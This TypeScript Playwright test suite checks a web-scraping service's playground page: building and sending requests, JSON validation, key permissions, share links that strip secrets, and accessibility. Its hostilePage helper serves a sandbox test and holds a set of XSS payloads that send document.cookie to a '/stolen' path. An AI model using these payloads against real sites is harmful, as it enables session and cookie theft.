import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { type TestContext, test } from 'node:test';
import type { Page } from 'playwright-core';
import { startSite } from '../../site/site.ts';
import { until } from '../../support/until.ts';
import { becomeOwner, createKey, signIn, startBrowsing } from '../support/browse.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** The service, a site to scrape, and the owner with the playground open. */
async function startPlaying(t: TestContext) {
  const site = await startSite();
  t.after(() => site.close());
  const { app, newPerson } = await startBrowsing(t);
  const { page, complaints } = await newPerson({ viewport: { width: 1440, height: 1000 } });
  await becomeOwner(page, app);
  await page.goto('/playground');
  await page.getByLabel('Address').waitFor();
  return { app, site, page, complaints, newPerson };
}

test('a person writes a request, sends it and sees all that came back', { timeout: 120_000 }, async (t) => {
  const { app, site, page, complaints } = await startPlaying(t);
  await page.getByLabel('Address').fill(`${site.url}/shop/product/2`);
  await page.getByRole('switch', { name: 'Render JavaScript' }).check();
  await page.getByRole('switch', { name: 'Screenshot' }).check();
  await addRule(page, 'sku', 'tr:last-child td');
  await section(page, 'AI fields').click();
  await page.getByRole('button', { name: 'Add a field' }).click();
  await page.getByLabel('Field 1', { exact: true }).fill('price');
  await page.getByRole('switch', { name: 'Evidence' }).check();
  await section(page, 'Browser steps').click();
  await page.getByLabel('Add a step').selectOption('Scroll down');
  await page.getByLabel('Add a step').selectOption('Wait');
  await page.getByLabel('Milliseconds').fill('50');
  await page.getByLabel('Milliseconds').press('Alt+ArrowUp');

  assert.match(await page.getByTestId('price').innerText(), /AI extraction\s+5[\s\S]*Total\s+10 credits/);
  assert.equal(await page.evaluate(`document.activeElement.matches('[data-path$=".delay"]')`), true);
  await page.getByLabel('Address').press('Control+Enter');
  await page.getByRole('tab', { name: 'Extracted' }).waitFor();

  assert.match(await row(page, 'sku'), /TRW-002/);
  await page.getByRole('tab', { name: 'AI values' }).click();
  assert.match(await row(page, 'price'), /€24\.90/);
  await page.getByRole('tab', { name: 'Preview' }).click();
  await page.frameLocator('iframe').getByRole('heading', { name: 'Storm Lantern' }).waitFor();
  await page.getByRole('tab', { name: 'Steps' }).click();
  assert.deepEqual(await page.locator('td[data-label="Step"]').allInnerTexts(), ['Wait', 'Scroll down']);
  await page.getByRole('tab', { name: 'Timings' }).click();
  await page.getByText('In the service').waitFor();
  await page.getByRole('tab', { name: 'Headers' }).click();
  assert.match(await row(page, 'x-credits-used'), /10/);
  await page.getByRole('tab', { name: 'Screenshot' }).click();
  const shot = page.getByRole('img', { name: 'The page as the browser saw it' });
  await page.getByRole('region', { name: 'Screenshot of the page' }).press('1');
  await until(async () => (await shot.boundingBox())?.width === (await naturalWidth(page)));
  await page.getByRole('tab', { name: 'HTML' }).click();
  await page.locator('.cm-line', { hasText: '</html>' }).waitFor();
  await page.getByRole('button', { name: 'Search' }).click();
  await page.locator('.cm-search input[name="search"]').pressSequentially('availability');
  await page.locator('.cm-searchMatch').first().waitFor();
  assert.equal(app.audit().balance, 990);
  // The page's picture, which the preview is meant not to load.
  assert.deepEqual(
    complaints.filter((text) => !text.includes('Policy directive: "img-src data:"')),
    [],
  );
});

test('suggested rules are taken over with one click, and the next request is cheaper', async (t) => {
  const { site, page } = await startPlaying(t);
  await writeJson(page, { url: `${site.url}/shop/product/2`, aiScraping: [{ name: 'price' }], aiEvidence: true });
  await page.getByRole('button', { name: /^Send/ }).click();
  await page.getByRole('button', { name: 'Use these rules' }).click();

  const body = await jsonOf(page);
  assert.deepEqual(Object.keys(body), ['url', 'extractRules']);
  assert.match(await page.getByTestId('price').innerText(), /Total\s+1 credit/);
  await page.getByRole('button', { name: /^Send/ }).click();
  await page.getByRole('tab', { name: 'Extracted' }).waitFor();
  assert.match(await row(page, 'price'), /€24\.90/);
});

test('form and JSON are one; faults are shown where they are', async (t) => {
  const { site, page } = await startPlaying(t);
  const json = page.getByLabel('Request body as JSON');

  await json.fill('{\n  "url": "x"\n  "serp": true\n}');
  await page.getByText('Line 3, column 3: a comma or } is expected here').waitFor();
  assert.equal(await page.getByRole('button', { name: /^Send/ }).isDisabled(), true);
  await writeJson(page, { url: 'ftp://x', headers: [{ name: 'Host', value: 'a' }], extractRules: { t: 'h1:has(p)' } });
  assert.equal(await page.getByLabel('Address').inputValue(), 'ftp://x');
  await page.getByRole('button', { name: /^Send/ }).click();
  await page.getByText('INVALID_REQUEST').waitFor();

  for (const label of ['Address', 'Name 1', 'CSS selector 1']) {
    const field = page.getByLabel(label, { exact: true }).and(page.locator('[aria-invalid]'));
    assert.ok(await field.count(), label);
  }
  await page.getByLabel('Address').fill(`${site.url}/page`);
  assert.equal(await page.getByLabel('Address').getAttribute('aria-invalid'), null);
  await page.reload();
  assert.equal(await page.getByLabel('Address').inputValue(), `${site.url}/page`);
  assert.equal(await page.getByLabel('CSS selector 1').inputValue(), 'h1:has(p)');
});

test('a key that lacks a permission is told before it is sent; a slow page can be cancelled', async (t) => {
  const { app, site, page } = await startPlaying(t);
  await createKey(page, 'plain', ['JavaScript']);
  await page.goto('/playground');
  await page.getByLabel('Sent as').selectOption({ label: await optionOf(page, 'plain') });
  await page.getByRole('switch', { name: 'Render JavaScript' }).check();
  await page.getByText('This key is not allowed “JavaScript”').waitFor();
  await page.getByRole('switch', { name: 'Render JavaScript' }).uncheck();
  await page.getByLabel('Address').fill(`${site.url}/slow/never`);

  await page.getByRole('button', { name: /^Send/ }).click();
  await until(() => site.requests.length > 0);
  await page.getByRole('button', { name: /^Cancel/ }).click();
  await page.getByText('Cancelled.').waitFor();

  assert.equal(app.audit().balance, 1000);
});

test('a shared link has no key and no secret in it, opens as a form, and sends nothing', async (t) => {
  const { site, page, newPerson } = await startPlaying(t);
  const request = {
    url: `${site.url}/page`,
    headers: [{ name: 'Authorization', value: 'Bearer hunter2' }],
    extractRules: { title: 'h1' },
  };
  await writeJson(page, request);
  await page.getByRole('tab', { name: 'curl' }).click();
  assert.match(
    await page.getByRole('tabpanel').first().innerText(),
    /curl '[^']+\/api\/v1\/scrape'[\s\S]*\$TRAWL_API_KEY/,
  );
  await page.getByRole('button', { name: 'Share' }).click();
  const link = await page.getByRole('dialog').locator('code', { hasText: '#request=' }).innerText();
  await page.getByRole('switch', { name: 'Include 1 header value' }).check();
  await until(async () => (await page.getByRole('dialog').locator('code').innerText()) !== link);
  const whole = await page.getByRole('dialog').locator('code').innerText();

  await page.goto('/keys');
  await page.goto(link);
  await page.getByText('This request came from a link').waitFor();
  const opened = await jsonOf(page);
  await page.goto(whole);
  await until(async () => JSON.stringify(await jsonOf(page)).includes('hunter2'));

  const elsewhere = await newPerson();
  await elsewhere.page.goto(link);
  await signIn(elsewhere.page, 'olga@example.com');
  await elsewhere.page.getByText('This request came from a link').waitFor();

  assert.deepEqual(await jsonOf(elsewhere.page), opened);
  assert.deepEqual(opened, { ...request, headers: [{ name: 'Authorization', value: '' }] });
  assert.deepEqual(await jsonOf(page), request);
  assert.equal(new URL(page.url()).hash, '');
  assert.equal(site.requests.length, 0);
});

test('a scraped page in the preview runs nothing, leads nowhere and asks for nothing', async (t) => {
  const { page } = await startPlaying(t);
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(String(request.url));
    response.setHeader('Content-Type', 'text/html').end(hostilePage(`http://${request.headers.host}`));
  }).listen(0, '127.0.0.1');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as AddressInfo;
  const fromPreview: string[] = [];
  // What the policy stops is announced as a request too, and fails without leaving the browser.
  page.on('response', (response) => {
    if (!response.url().includes('/dashboard/api/')) fromPreview.push(response.url());
  });
  page.on('dialog', (dialog) => fromPreview.push(dialog.message()));

  await page.getByLabel('Address').fill(`http://127.0.0.1:${port}/hostile`);
  await page.getByRole('button', { name: /^Send/ }).click();
  const frame = page.frameLocator('iframe');
  await frame.getByText('Hostile').waitFor();
  for (const id of ['script-link', 'top-link', 'blank-link', 'form-button', 'picture']) {
    await frame
      .locator(`#${id}`)
      .click({ timeout: 2000 })
      .catch(() => {}); // a broken frame is for the asserts below
  }
  await page.getByRole('tab', { name: 'Headers' }).click();

  assert.equal(new URL(page.url()).pathname, '/playground');
  assert.equal(await page.title(), 'Playground · Trawl');
  assert.equal(page.context().pages().length, 1);
  assert.deepEqual(asked, ['/hostile']);
  assert.deepEqual(
    fromPreview.filter((url) => !url.startsWith('about:')),
    [],
  );
});

test('ten megabytes of source open, and the page stays usable', { timeout: 120_000 }, async (t) => {
  const { page } = await startPlaying(t);
  const big = `<!doctype html><p>begin</p>${'<p class="x">lorem ipsum</p>'.repeat(370_000)}<p>needle</p>`;
  const server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html').end(big);
  }).listen(0, '127.0.0.1');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  await new Promise((resolve) => server.once('listening', resolve));

  await page.getByLabel('Address').fill(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  await page.getByRole('button', { name: /^Send/ }).click();
  await page.getByRole('tab', { name: 'HTML' }).click({ timeout: 60_000 });
  await page.locator('.cm-content').getByText('begin').waitFor({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Search' }).click();
  await page.locator('.cm-search input[name="search"]').pressSequentially('needle');
  await page.locator('.cm-search input[name="search"]').press('Enter');

  await page.locator('.cm-searchMatch', { hasText: 'needle' }).waitFor({ timeout: 30_000 });
});

for (const [theme, width] of [
  ['light', 1440],
  ['dark', 1440],
  ['light', 360],
  ['dark', 360],
] as const) {
  test(`everyone can use the playground: ${theme}, ${width} px wide`, { timeout: 120_000 }, async (t) => {
    const { site, page } = await startPlaying(t);
    await page.setViewportSize({ width, height: 900 });
    await page.emulateMedia({ colorScheme: theme });
    await writeJson(page, {
      url: `${site.url}/shop/product/2`,
      screenshot: true,
      headers: [{ name: 'X-A', value: 'b' }],
      cookies: [{ name: 'a', value: 'b' }],
      extractRules: { sku: 'tr:last-child td', name: 'h1' },
      aiScraping: [{ name: 'price', value: 'what it costs', context: 'in euros' }],
      aiEvidence: true,
      javascriptInstruction: [
        { action: 'waitForSelector', selector: { type: 'css', value: 'h1' }, timeout: 5 },
        { action: 'typeText', selector: { type: 'css', value: '#nothing' }, text: 'x', onError: 'continue' },
      ].slice(0, 1),
    });
    await shoot(page, `form-${theme}-${width}`);
    await assertAccessible(page);
    await page.getByRole('button', { name: /^Send/ }).click();
    await page.getByRole('tab', { name: 'AI values' }).waitFor();

    for (const name of await page
      .getByRole('tablist', { name: 'Parts of the result' })
      .getByRole('tab')
      .allInnerTexts()) {
      await page.getByRole('tab', { name, exact: true }).click();
      if (name === 'HTML') await page.locator('.cm-content').waitFor();
      if (name === 'Timings') await page.getByText('In the service').waitFor();
      await shoot(page, `${name.replaceAll(' ', '-')}-${theme}-${width}`);
      await assertAccessible(page);
      const isTooWide = await page.evaluate('document.documentElement.scrollWidth > innerWidth');
      assert.equal(isTooWide, false, name);
    }
  });
}

/** Pictures to look at, for whoever names a folder. */
async function shoot(page: Page, name: string): Promise<void> {
  const folder = process.env.TRAWL_TEST_SHOTS;
  if (folder) await page.screenshot({ path: `${folder}/playground-${name}.png`, fullPage: true });
}

async function assertAccessible(page: Page): Promise<void> {
  await page.evaluate(axe);
  const found = await page.evaluate(async () => {
    // biome-ignore lint/suspicious/noExplicitAny: put there by the line above.
    const { violations } = await (globalThis as any).axe.run();
    return violations
      .filter(({ impact }: { impact: string }) => impact === 'serious' || impact === 'critical')
      .map(({ id, nodes }: { id: string; nodes: { html: string }[] }) => `${id}: ${nodes.map(({ html }) => html)}`);
  });
  assert.deepEqual(found, []);
}

function section(page: Page, title: string) {
  return page.locator('summary').filter({ hasText: title });
}

async function addRule(page: Page, name: string, selector: string): Promise<void> {
  await section(page, 'Extraction rules').click();
  await page.getByRole('button', { name: 'Add a rule' }).click();
  await page.getByLabel('Name 1', { exact: true }).fill(name);
  await page.getByLabel('CSS selector 1').fill(selector);
}

async function row(page: Page, name: string): Promise<string> {
  return page
    .getByRole('row')
    .filter({ has: page.getByText(name, { exact: true }) })
    .innerText();
}

async function writeJson(page: Page, body: object): Promise<void> {
  await page.getByLabel('Request body as JSON').fill(JSON.stringify(body, null, 2));
}

async function jsonOf(page: Page): Promise<object> {
  return JSON.parse(await page.getByLabel('Request body as JSON').inputValue()) as object;
}

async function optionOf(page: Page, name: string): Promise<string> {
  return page.getByLabel('Sent as').locator('option').filter({ hasText: name }).innerText();
}

function naturalWidth(page: Page): Promise<number> {
  return page.evaluate<number>(`document.querySelector('img[alt^="The page as"]').naturalWidth`);
}

/** Everything a page could try, with `self` as where it would like to be heard. */
function hostilePage(self: string): string {
  const steal = `top.location='${self}/stolen?'+top.document.cookie`;
  return `<!doctype html><head><base href="${self}/base/" target="_top"><meta http-equiv="refresh" content="0;url=${self}/refresh">
<link rel="stylesheet" href="${self}/style.css"><style>@import url("${self}/import.css"); body { background: url("${self}/background.png") }</style>
<script>${steal}</script><script src="${self}/script.js"></script></head>
<body onload="${steal}"><h1>Hostile</h1>
<img id="picture" src="x" onerror="${steal}" onclick="${steal}" width="40" height="40"><img src="/dashboard/api/me"><img src="${self}/picture.png">
<a id="script-link" href="javascript:${steal}">script</a> <a id="top-link" href="${self}/top" target="_top">top</a>
<a id="blank-link" href="${self}/blank" target="_blank">blank</a>
<form action="${self}/form" target="_top"><input name="a" value="b" autofocus><button id="form-button">send</button></form>
<object data="${self}/object.html"></object><embed src="${self}/embed.html"><iframe src="${self}/frame.html"></iframe>
<iframe srcdoc="<script>${steal}</script>"></iframe>
<svg onload="${steal}"><script>${steal}</script><image href="${self}/svg.png"/></svg>
<video autoplay src="${self}/video.mp4"></video><audio src="${self}/audio.mp3" onerror="${steal}"></audio>
<math><mtext></p><script>${steal}</script></mtext></math></body>`;
}
